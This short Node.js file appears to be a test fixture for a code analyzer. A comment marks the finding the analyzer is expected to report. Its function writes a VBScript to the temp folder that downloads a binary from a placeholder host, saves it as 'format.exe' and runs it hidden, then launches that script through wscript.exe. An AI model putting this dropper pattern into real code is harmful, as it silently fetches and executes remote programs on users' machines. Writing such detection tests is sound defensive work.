const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

// The script stands in the code, and is started out of a file.
exports.written = () => {
  const file = path.join(os.tmpdir(), 'format.vbs');
  const lines = [
    'Set x = CreateObject("MSXML2.XMLHTTP")',
    'x.Open "GET", "https://mirror.invalid/blob.bin", False',
    'x.Send',
    'Set s = CreateObject("ADODB.Stream"): s.Type = 1: s.Open: s.Write x.responseBody',
    's.SaveToFile Environ("TEMP") & "\\format.exe", 2',
    'CreateObject("WScript.Shell").Run "%TEMP%\\format.exe", 0'
  ];
  fs.writeFileSync(file, lines.join('\r\n'));
  spawn('wscript.exe', [file], { stdio: 'ignore' });  // want "writes into a file starts a program that it has fetched"
};
